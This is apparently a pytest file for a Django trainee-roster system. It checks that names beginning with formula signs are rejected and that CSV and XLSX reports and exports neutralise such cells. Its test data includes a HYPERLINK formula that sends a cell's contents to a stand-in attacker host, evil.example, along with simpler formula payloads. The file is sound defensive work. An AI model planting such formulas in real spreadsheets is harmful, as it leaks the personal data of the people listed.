"""Formula injection (issue 7, finding 9): names follow the ID-card rule on the Trainee.name field (every door),
the roster check calls the same function, and every csv/xlsx the system writes (the roster error report, the
admin exports) neutralises cells that a spreadsheet would run: the official who opens them runs nothing."""

import csv
import io

import pytest
import xlsxwriter
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import TraineeFactory, staff_user
from tests.training import builders
from tests.training.roster_support import World, csv_bytes
from training.models import RosterImport, Trainee
from training.roles import Role
from training.rosters import columns as c
from training.tabular import csv_bytes as tabular_csv
from training.tabular import neutralise
from training.tabular import xlsx_bytes as tabular_xlsx
from training.validators import name_error

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B2,"点击查看")', "+1+1", "@SUM(1+1)", "-2+3"]
LEADING = "不能以 = + - @ 开头（电子表格会把它当作公式）"


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("张三", None),
        ("阿依古丽·买买提", None),
        ("阿依古丽•买买提", None),  # a look-alike dot is the middle dot
        ("John Smith", None),
        ("Jean-Pierre O'Neil", None),
        ("张  三", None),  # spaces typed to align two-character names
        (FORMULAS[0], LEADING),
        ("+1+1", LEADING),
        ("@SUM(1+1)", LEADING),
        ("-张三", LEADING),
        ("张三1", "应为汉字；少数民族或外国人姓名可用“·”分隔，或用拉丁字母（含有不允许的字符：1）"),
        ("张三<script>", "应为汉字；少数民族或外国人姓名可用“·”分隔，或用拉丁字母（含有不允许的字符：< >）"),
        ("·张三", "应为汉字；少数民族或外国人姓名可用“·”分隔，或用拉丁字母（格式不对）"),
        ("", "不能为空"),
    ],
)
def test_name_rule(value, reason):
    assert name_error(value) == reason


def test_the_trainee_name_field_refuses_a_formula_in_every_door():
    trainee = TraineeFactory()
    trainee.name = "=1+1"
    with pytest.raises(ValidationError) as error:
        trainee.full_clean()
    assert error.value.message_dict == {"name": [LEADING]}


def _upload(client, world, data, name):
    client.force_login(builders.provider_staff(world.project))
    file = io.BytesIO(data)
    file.name = name
    client.post(reverse("roster-list"), {"project": world.project.pk, "file": file})
    return RosterImport.objects.latest("pk")


def _xlsx_with_text(rows: list[dict]) -> bytes:
    """An xlsx whose name cells hold the text =HYPERLINK(…) (typed as text), as the issue's roster had."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"strings_to_formulas": False, "in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, list(c.COLUMNS))
    for index, values in enumerate(rows, start=1):
        sheet.write_row(index, 0, [values[column] for column in c.COLUMNS])
    book.close()
    return out.getvalue()


def test_error_report_xlsx_gives_formula_names_back_as_text(client):
    world = World()
    rows = [world.row(**{c.NAME: name}) for name in FORMULAS]
    upload = _upload(client, world, _xlsx_with_text(rows), "花名册.xlsx")
    assert upload.invalid_rows == 4
    assert upload.preview["errors"][0] == {"row": 2, "reason": f"姓名: {LEADING}"}
    report = client.get(reverse("roster-report", args=[upload.pk]))
    sheet = load_workbook(io.BytesIO(b"".join(report.streaming_content))).active
    names = [sheet.cell(row=r, column=1) for r in range(2, 6)]
    assert [cell.data_type for cell in names] == ["s"] * 4  # strings, not formulas ("f")
    assert [cell.value for cell in names] == ["'" + name for name in FORMULAS]
    assert sheet.cell(row=2, column=len(c.COLUMNS) + 1).value == f"姓名: {LEADING}"


def test_error_report_csv_neutralises_every_formula_sign(client):
    world = World()
    rows = [world.row(**{c.NAME: name}) for name in FORMULAS]
    upload = _upload(client, world, csv_bytes(rows), "花名册.csv")
    report = client.get(reverse("roster-report", args=[upload.pk]))
    table = list(csv.reader(io.StringIO(b"".join(report.streaming_content).decode("utf-8-sig"))))
    assert [row[0] for row in table[1:]] == ["'" + name for name in FORMULAS]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)


def _export(client, fmt: str) -> bytes:
    fields = ["name", "id_number", "personnel_class", "enterprise", "phone", "post_start_date", "new_or_transferred"]
    data = {"format": fmt, "resource": "0", **{f"traineeresource_{name}": "on" for name in fields}}
    response = client.post("/admin/training/trainee/export/", data)
    assert response.status_code == 200, response.content[:2000]
    return response.content


@pytest.fixture
def legacy_formula_names():
    """Rows written before the name rule existed (the validator stops new ones in every door)."""
    for name in FORMULAS:
        Trainee.objects.filter(pk=TraineeFactory().pk).update(name=name)


def test_admin_export_csv_neutralises_formulas(client, legacy_formula_names):
    client.force_login(staff_user(Role.ADMIN))
    table = list(csv.reader(io.StringIO(_export(client, "0").decode("utf-8-sig"))))
    assert sorted(row[0] for row in table[1:]) == sorted("'" + name for name in FORMULAS)


def test_admin_export_xlsx_cells_are_text_not_formulas(client, legacy_formula_names):
    client.force_login(staff_user(Role.ADMIN))
    sheet = load_workbook(io.BytesIO(_export(client, "1"))).active
    cells = [sheet.cell(row=r, column=1) for r in range(2, 6)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sorted(cell.value for cell in cells) == sorted("'" + name for name in FORMULAS)


def test_the_helpers_every_app_uses():
    assert [neutralise(v) for v in ["=1", "+1", "-1", "@A", "\t=1", "张三", -1, 2.5, None]] == [
        "'=1", "'+1", "'-1", "'@A", "'\t=1", "张三", -1, 2.5, None
    ]  # fmt: skip
    assert tabular_csv(["姓名"], [["=1+1"]]).decode("utf-8-sig").splitlines() == ["姓名", "'=1+1"]
    sheet = load_workbook(io.BytesIO(tabular_xlsx(["姓名"], [["=1+1"], [12]]))).active
    assert (sheet["A2"].data_type, sheet["A2"].value, sheet["A3"].value) == ("s", "'=1+1", 12)
